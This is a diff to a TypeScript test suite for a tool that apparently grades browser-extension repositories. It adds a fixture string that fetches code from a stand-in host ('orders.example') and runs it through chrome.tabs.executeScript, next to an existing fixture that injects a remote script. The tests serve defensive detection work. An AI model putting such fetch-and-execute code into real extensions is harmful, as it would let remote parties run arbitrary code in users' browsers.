@@ -4,6 +4,8 @@ import { memoryTree } from '../../sources/memory.ts';
 
 const REMOTE =
   "const s = document.createElement('script'); s.src = 'https://cdn.widgets-host.com/a.js'; document.head.append(s);";
+const ORDERS =
+  'fetch("https://orders.example/now").then((r) => r.text()).then((code) => chrome.tabs.executeScript({ code }));';
 const graded = async (files: Record<string, string>): Promise<string> =>
   (
     await analyze(
@@ -29,6 +31,15 @@ describe('what an extension’s repository holds beside the extension', () => {
     };
     expect(await graded({ 'package.json': '{}', ...saved })).toMatch(/^A/);
     expect(await graded({ 'package.json': '{}', 'saved/Mail_files/site.js': REMOTE })).toBe('D');
+  });
+  it('does not count where a page of tests shows it, unless a script names where that lies', async () => {
+    const tests = { 'tests/index.html': '<script src="load.js"></script>', 'tests/load.js': ORDERS };
+    expect(await graded({ 'package.json': '{}', ...tests })).toMatch(/^A/);
+    for (const opens of ['"tests/index.html"', '"tests/" + name', '["tests", name].join("/")'])
+      expect(
+        await graded({ 'package.json': '{}', ...tests, 'own.js': `open(chrome.runtime.getURL(${opens}));` }),
+      ).toMatch(/^[DF]/);
+    expect(await graded(tests)).toMatch(/^[DF]/);
   });
   it('hands nothing to the extension where it is a test', async () => {
     const files = {
